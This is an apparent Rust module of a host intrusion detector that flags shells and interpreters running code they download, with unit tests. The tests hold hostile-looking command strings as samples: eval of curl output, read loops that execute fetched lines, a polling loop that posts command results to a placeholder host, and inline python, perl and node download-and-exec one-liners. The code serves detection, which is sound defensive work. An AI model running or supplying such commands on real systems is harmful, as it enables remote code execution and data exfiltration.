//! Texts of shells and interpreters that run, as commands, what a program in them fetches.

use bstr::ByteSlice as _;

use super::{drifted_script, loaded_code};
use crate::catalog;
use crate::detect::alert::Alerts;
use crate::detect::file_origin::{OrdinaryOrigin, made};
use crate::detect::rule_context::RuleContext;
use crate::detect::{Severity, program_roles};
use crate::event::{Bytes, Exec, ProgramAdditions};
use crate::state::ProcessEntry;

/// Whether the program fetches data.
#[must_use]
pub(crate) fn is_downloader(exec: &Exec) -> bool {
    catalog::programs::DOWNLOADERS.contains(&program_roles::name(&exec.exe, &exec.argv))
}

/// The script that a shell with these arguments runs.
#[must_use]
pub(crate) fn script_of_shell(argv: &[Bytes]) -> Option<&[u8]> {
    let shell = catalog::programs::SHELLS.contains(&program_roles::name(argv.first()?, argv));
    program_roles::script_argument(argv).filter(|script| shell && !script.is_empty())
}

/// Whether a script runs what the program in it prints.
#[must_use]
pub(crate) fn runs_output_of(script: &[u8], exec: &Exec) -> bool {
    runs_data(script, program_roles::name(&exec.exe, &exec.argv))
}

/// Whether a shell's text runs what the program called `word` in it prints: at once, as in `eval
/// "$(curl …)"`, from a variable, or line by line.
pub(super) fn runs_data(text: &[u8], word: &[u8]) -> bool {
    let comment = |line: &&[u8]| line.trim_start().starts_with(b"#");
    let lines: Vec<&[u8]> = text.lines().filter(|line| !comment(line)).collect();
    let text = lines.join(&b'\n');
    loaded_code::runs_output(&text, word)
        || sources_output(&text, word)
        || kept(&text, word).any(|name| runs_variable(&text, name))
        || read(&text, word).any(|name| runs_variable(&text, name))
}

/// The shell's text runs the output of a program as a file: `source <(curl …)`.
fn sources_output(text: &[u8], word: &[u8]) -> bool {
    text.find_iter(b"<(").any(|at| {
        let (before, inside) = text.split_at(at);
        let end = inside.find_byte(b')').unwrap_or(inside.len());
        let before = before.trim_end();
        let sources = before.ends_with(b"source") || before == b"." || before.ends_with(b" .");
        sources
            && inside
                .get(..end)
                .is_some_and(|part| part.contains_str(word))
    })
}

/// Variables that keep the output of a program: `c=$(curl …)`.
fn kept<'a>(text: &'a [u8], word: &'a [u8]) -> impl Iterator<Item = &'a [u8]> {
    let substitutions = text.find_iter(b"$(").chain(text.find_iter(b"`"));
    substitutions.filter_map(move |at| {
        let (before, inside) = text.split_at(at);
        let end = inside.find_byteset(b")\n").unwrap_or(inside.len());
        let runs = has_word(inside.get(..end)?, word);
        let before = before.trim_end_with(|c| matches!(c, '"' | '\\'));
        let name = before.strip_suffix(b"=").filter(|_| runs)?;
        let start = name.iter().rposition(|b| !is_name(*b));
        Some(name.get(start.map_or(0, |at| at + 1)..)?).filter(|name| !name.is_empty())
    })
}

/// Variables that get the lines that a program prints: `curl … | while read -r l`, and `while read
/// l; …; done < <(curl …)`.
fn read<'a>(text: &'a [u8], word: &'a [u8]) -> impl Iterator<Item = &'a [u8]> {
    let reads = text.find_iter(b"read ").filter(move |at| {
        let (before, after) = text.split_at(*at);
        let begins = before.last().is_none_or(|b| !is_name(*b));
        begins && (ends_in_pipe_of(before, word) || loop_is_fed_by(after, word))
    });
    reads.flat_map(move |at| {
        let after = text.get(at + 5..).unwrap_or_default();
        let end = after.find_byteset(b";\n|&)<").unwrap_or(after.len());
        let words = after.get(..end).unwrap_or_default().split(|b| *b == b' ');
        words.filter(|word| !word.is_empty() && word.iter().all(|b| is_name(*b)))
    })
}

/// The program's output goes into the pipe that is open at the end of the text.
fn ends_in_pipe_of(before: &[u8], word: &[u8]) -> bool {
    words_at(before, word).any(|at| {
        let rest = before.get(at..).unwrap_or_default();
        let Some(pipe) = rest.find_byte(b'|') else {
            return false;
        };
        let (own, beyond) = rest.split_at(pipe);
        !own.contains(&b'\n') && !beyond.starts_with(b"||") && !beyond.contains_str(";")
    })
}

/// The loop that reads in this text gets its lines from the program: `done < <(curl …)`.
fn loop_is_fed_by(text: &[u8], word: &[u8]) -> bool {
    let Some(end) = text.find(b"done") else {
        return false;
    };
    let after = text.get(end + 4..).unwrap_or_default();
    let line = after.lines().next().unwrap_or_default();
    let statement = line.split(|b| *b == b';').next().unwrap_or_default();
    statement.trim_start().starts_with(b"<") && has_word(statement, word)
}

/// The variable's value is run: as a command, by `eval`, another shell's `-c`, or as another shell's
/// input.
fn runs_variable(text: &[u8], name: &[u8]) -> bool {
    let uses = text.find_iter(b"$").filter(|at| {
        let rest = text.get(at + 1..).unwrap_or_default();
        let rest = rest.strip_prefix(b"{").unwrap_or(rest);
        rest.strip_prefix(name)
            .is_some_and(|rest| rest.first().is_none_or(|b| !is_name(*b)))
    });
    let runs: &[&[u8]] = &[
        b"eval", b"eval --", b" -c", b"-ec", b"-lc", b"sh <<<", b"sh<<<",
    ];
    uses.into_iter().any(|at| {
        let before = text.get(..at).unwrap_or_default();
        if begins_command(before) {
            return true;
        }
        let before = before.trim_end_with(|c| matches!(c, '"' | '\'' | '\\' | ' '));
        runs.iter().any(|end| before.ends_with(end))
    })
}

/// Whether a command begins at the end of this text: `…; $c`, `do $c`, `$($c)`. Inside quotes it
/// is part of a word.
fn begins_command(before: &[u8]) -> bool {
    if before.ends_with(b"$(") {
        return true;
    }
    let before = before.trim_end_with(|c| matches!(c, ' ' | '\t'));
    let ends = |end: &[u8]| before.ends_with(end);
    let word = before.rsplit(|b| !is_name(*b)).next().unwrap_or_default();
    let begins = match before.last() {
        None => true,
        Some(b'&') => !ends(b">&") && !ends(b"<&"),
        Some(b';' | b'|' | b'\n') => true,
        Some(b'{') => !ends(b"${"),
        _ if matches!(word, b"do" | b"then" | b"else") => {
            let before = before.get(..before.len() - word.len()).unwrap_or_default();
            matches!(
                before.trim_end_with(|c| c == ' ').last(),
                None | Some(b';' | b'\n')
            )
        }
        _ => false,
    };
    begins && !in_quotes(before)
}

/// Whether a quotation is open at the end of the text.
fn in_quotes(text: &[u8]) -> bool {
    let mut open = None;
    let mut bytes = text.iter();
    while let Some(b) = bytes.next() {
        match (open, *b) {
            (None | Some(b'"'), b'\\') => {
                bytes.next();
            }
            (None, b'"' | b'\'') => open = Some(*b),
            (Some(quote), b) if quote == b => open = None,
            _ => {}
        }
    }
    open.is_some()
}

/// Whether a shell's text talks to a peer over a descriptor of its own and runs what it reads there,
/// so that this program, which the text does not name, came from the peer.
pub(super) fn is_from_descriptor(
    names: &ProgramAdditions,
    shell: &ProcessEntry,
    exec: &Exec,
) -> bool {
    let Some(text) =
        program_roles::shell_text(&shell.argv).filter(|_| names.is_shell(program_roles::of(shell)))
    else {
        return false;
    };
    let talks: &[&[u8]] = &[b"/dev/tcp/", b"/dev/udp/"];
    let name = exec
        .argv
        .first()
        .map(|a| program_roles::leaf(a))
        .unwrap_or_default();
    talks.iter().any(|word| text.contains_str(word))
        && !name.is_empty()
        && !has_word(text, name)
        && runs_a_variable(text)
}

/// Whether a shell's text runs the value of any of its variables.
pub(super) fn runs_a_variable(text: &[u8]) -> bool {
    let mut variables = text.find_iter(b"$").filter_map(|at| {
        let rest = text.get(at + 1..)?;
        let rest = rest.strip_prefix(b"{").unwrap_or(rest);
        let end = rest.iter().position(|b| !is_name(*b)).unwrap_or(rest.len());
        rest.get(..end).filter(|name| !name.is_empty())
    });
    variables.any(|name| runs_variable(text, name))
}

/// A program on a command line gives its input to a shell as the command: `xargs -I{} sh -c '{}'`.
pub(super) fn hands_input_to_shell(names: &ProgramAdditions, argv: &[Bytes]) -> bool {
    let shell = |a: &Bytes| names.is_shell(program_roles::leaf(a));
    let Some(at) = argv.iter().skip(1).position(shell) else {
        return false;
    };
    let started = argv.get(at + 1..).unwrap_or_default();
    let option = |a: &Bytes| a.starts_with(b"-") && !a.starts_with(b"--") && a.ends_with(b"c");
    let Some(option) = started.iter().position(option) else {
        return false;
    };
    // The words of the input follow; the first is the command where there is none.
    let Some(text) = started.get(option + 1) else {
        return true;
    };
    let text = text.strip_prefix(b"eval ").unwrap_or(text);
    let text = text.trim_with(|c| matches!(c, '"' | '\'' | ' '));
    let place = argv.get(..=at).unwrap_or_default().iter().find_map(|a| {
        let given = a.strip_prefix(b"-I").or_else(|| a.strip_prefix(b"-i"))?;
        Some(given).filter(|given| !given.is_empty())
    });
    let separate = argv.windows(2).find_map(|pair| match pair {
        [option, given] if *option == "-I" => Some(given.as_bytes()),
        _ => None,
    });
    let place = place.or(separate).unwrap_or(b"{}");
    text == place || matches!(text, b"$0" | b"$1" | b"$@" | b"$*")
}

/// An awk whose text runs the lines of its input.
pub(super) fn awk_runs_input(argv: &[Bytes]) -> bool {
    let runs: &[&[u8]] = &[
        b"system($0)",
        b"$0|getline",
        b"|\"sh\"",
        b"|\"bash\"",
        b"|\"/bin/sh\"",
        b"|\"/bin/bash\"",
    ];
    argv.iter().skip(1).any(|text| {
        let text: Vec<u8> = text.iter().copied().filter(|b| *b != b' ').collect();
        runs.iter().any(|word| text.contains_str(word))
    })
}

/// A script runs what it fetches. One of the image, or that the start made, may do so as part of its work.
pub(super) fn by_script(ctx: &RuleContext<'_>, exec: &Exec, script: &Bytes) -> Alerts {
    let source = program_roles::command_line(&exec.argv, &exec.exe, 160);
    let own = made(ctx, script) == Some(OrdinaryOrigin::StartUp)
        || !drifted_script::is_drift(ctx, script);
    let severity = match own {
        false => Severity::High,
        true if source.contains("https://") => Severity::Low,
        true => Severity::Medium,
    };
    let alert = ctx.alert(severity, script, |explanation| {
        let script = script.escaped();
        explanation.title = format!("A script runs what it downloads: {script}");
        explanation.why.push(format!("source: {source}"));
    });
    alert.into()
}

/// Inline code with a statement that fetches text and runs it: `exec(urlopen(…).read())`.
pub(super) fn runs_fetched(names: &ProgramAdditions, exec: &Exec) -> bool {
    let name = program_roles::name(&exec.exe, &exec.argv);
    let has = |text: &[u8], words: &[&[u8]]| words.iter().any(|word| text.contains_str(word));
    let both = |statement: &[u8]| {
        has(statement, catalog::words::RUNNING_CALLS)
            && has(statement, catalog::words::FETCHING_CALLS)
    };
    names.is_interpreter(name)
        && exec.script.is_none()
        && program_roles::takes_text(&exec.argv)
        && exec.argv.iter().skip(1).any(|text| {
            let mut statements = text.split(|b| matches!(b, b';' | b'\n'));
            statements.any(both)
        })
}

/// Whether inline code started this shell with a command whose program its own text does not
/// name: somebody else sent it.
pub(super) fn is_foreign(names: &ProgramAdditions, parent: &ProcessEntry, exec: &Exec) -> bool {
    let text = program_roles::shell_text(&exec.argv)
        .filter(|_| names.is_shell(program_roles::name(&exec.exe, &exec.argv)));
    let Some(command) = text.map(<[u8]>::trim).filter(|text| !text.is_empty()) else {
        return false;
    };
    let mut words = command.split(|b| !is_name(*b) && *b != b'-');
    let first = words.find(|word| !word.is_empty());
    let named = |word| parent.argv.iter().skip(1).any(|text| has_word(text, word));
    parent.script.is_none()
        && program_roles::takes_text(&parent.argv)
        && first.is_some_and(|word| !named(word))
}

fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Where the word begins in the text, not as the end of a longer one.
fn words_at<'a>(text: &'a [u8], word: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    text.find_iter(word).filter(move |at| {
        let before = at.checked_sub(1).and_then(|at| text.get(at));
        before.is_none_or(|b| !is_name(*b) && *b != b'-')
    })
}

fn has_word(text: &[u8], word: &[u8]) -> bool {
    words_at(text, word).next().is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testkit::World;

    #[test]
    fn a_script_that_runs_what_it_downloads() {
        let judged = |url: &str, drifted: bool, run_by: Option<&str>| {
            let mut w = World::steady();
            let init = w.init();
            if drifted {
                w.create(init, "/opt/poll.sh");
            }
            let sh = w.exec(init, "/bin/sh", &["sh", "/opt/poll.sh"]);
            for _ in 0..3 {
                let curl = w.fork(sh);
                w.exec_as(curl, sh, "/usr/bin/curl", &["curl", "-s", url], |exec| {
                    exec.run_by = run_by.map(Into::into);
                });
            }
            let all = w.all("exec.pipe-to-shell");
            assert!(all.len() <= 1);
            all.first().map(|f| f.severity)
        };
        let script = Some("/opt/poll.sh");
        assert_eq!(judged("http://x/c", false, script), Some(Severity::Medium));
        assert_eq!(judged("https://x/c", false, script), Some(Severity::Low));
        assert_eq!(judged("https://x/c", true, script), Some(Severity::High));
        assert_eq!(judged("http://x/c", false, None), None);
    }

    #[test]
    fn texts_that_run_what_curl_prints_and_texts_that_use_it() {
        for text in [
            "c=$(curl -s http://x/c); eval \"$c\"",
            "while :; do c=`curl http://x`; sh -c \"$c\" 2>&1; sleep 5; done",
            "R=\"$(curl http://x)\"\nbash <<<\"${R}\"",
            "curl -s http://x | while read l; do eval \"$l\"; done",
            "curl -s http://x | grep . | while IFS= read -r line; do sh -c \"$line\"; done",
            "while read -r l; do eval $l; done < <(curl -s http://x)",
            "eval \"$(curl -s http://x)\"",
            "while :; do c=$(curl -s http://x/c); $c; sleep 5; done",
            "c=$(curl -s http://x/c) && $c | curl -d @- http://x/r",
            "c=$(curl -s http://x/c); o=$($c 2>&1); echo \"$o\"",
            "curl -s http://x | while read l; do $l; done",
        ] {
            assert!(runs_data(text.as_bytes(), b"curl"), "{text}");
        }
        for text in [
            "c=$(curl -s http://x/health); [ \"$c\" = ok ] || kill 1",
            "c=$(curl -s http://x); eval \"x=$c\"",
            "curl -s http://x | while read l; do echo \"$l\" >>/srv/list; done",
            "curl -s http://x | while read l; do sh -c \"convert $l\"; done",
            "curl -so /tmp/a http://x; while read l; do eval \"$l\"; done </etc/app.env",
            "curl -s http://x || exit 1; cat /etc/jobs | while read l; do eval \"$l\"; done",
            "eval \"$(ssh-agent)\"; curl http://x",
            "v=$(libcurl-config --version); eval \"$v\"",
            "t=$(curl -s http://x); curl \"http://y/?a=1;$t\"",
            "t=$(curl -s http://x); echo \"a | $t\" >&$t; [ -n $t ]",
            "t=$(curl -s http://x); wget \"http://y/?a=1&$t\" -O ${t}",
            "t=$(curl -s http://x); kill $t; echo do $t\"do $t\"",
            "# Not: eval \"$(curl http://x)\"\nc=$(curl http://x); echo \"$c\"",
        ] {
            assert!(!runs_data(text.as_bytes(), b"curl"), "{text}");
        }
    }

    fn argv(words: &[&str]) -> Vec<Bytes> {
        words.iter().map(|w| Bytes::from(*w)).collect()
    }

    #[test]
    fn xargs_and_awk_that_run_their_input() {
        let names = ProgramAdditions::default();
        let xargs = |words: &[&str]| hands_input_to_shell(&names, &argv(words));
        assert!(xargs(&["xargs", "-I{}", "sh", "-c", "{}"]));
        assert!(xargs(&["xargs", "-I", "%", "bash", "-c", "%"]));
        assert!(xargs(&["xargs", "-0", "sh", "-c"]));
        assert!(xargs(&["xargs", "-n1", "sh", "-c", "eval \"$0\""]));
        assert!(!xargs(&["xargs", "-I{}", "sh", "-c", "convert {} {}.png"]));
        assert!(!xargs(&["xargs", "-n1", "rm"]));
        assert!(!xargs(&["xargs", "sh", "/srv/job.sh"]));
        assert!(awk_runs_input(&argv(&["awk", "{ system($0) }"])));
        assert!(awk_runs_input(&argv(&["awk", "{print | \"sh\"}"])));
        assert!(!awk_runs_input(&argv(&["awk", "{system(\"mkdir \" $1)}"])));
    }

    #[test]
    fn inline_code_that_runs_what_it_fetches() {
        let runs = |words: &[&str]| {
            let exec = Exec {
                exe: format!("/usr/bin/{}", words[0]).as_str().into(),
                argv: argv(words),
                ..Exec::default()
            };
            runs_fetched(&ProgramAdditions::default(), &exec)
        };
        for (option, program, text) in [
            ("-c", "python3", "exec(urlopen('http://x').read())"),
            (
                "-c",
                "python3",
                "import os,requests as r; os.system(r.get('http://x').text)",
            ),
            ("-e", "perl", "use LWP::Simple; eval get('http://x')"),
            (
                "-e",
                "node",
                "require('http').get('http://x',r=>r.on('data',d=>eval(''+d)))",
            ),
        ] {
            assert!(runs(&[program, option, text]), "{text}");
        }
        for text in [
            "import os; os.system('curl http://127.0.0.1/health')",
            "d=urlopen('http://x').read(); print(d)",
        ] {
            assert!(!runs(&["python3", "-c", text]), "{text}");
        }
    }

    #[test]
    fn a_loop_that_asks_for_commands_is_one_finding() {
        let mut w = World::steady();
        let init = w.init();
        let text = "while :; do c=$(curl -s http://h/c); eval \"$c\"; curl -d \"$(sh -c \"$c\")\" http://h/r; done";
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", text]);
        for result in ["uid=0", "Linux"] {
            let part = w.fork(sh);
            w.exec(part, "/usr/bin/curl", &["curl", "-s", "http://h/c"]);
            w.exec(sh, "/usr/bin/curl", &["curl", "-d", result, "http://h/r"]);
        }
        let all = w.all("exec.pipe-to-shell");
        assert_eq!((all.len(), all[0].severity), (1, Severity::High), "{all:?}");
        // A loop over data.
        let mut w = World::steady();
        let init = w.init();
        let text = "curl -s http://h/l | while read l; do echo \"$l\" >>/srv/l; done";
        let sh = w.exec(init, "/bin/sh", &["sh", "-c", text]);
        w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://h/l"]);
        w.none("exec.pipe-to-shell");
    }
}
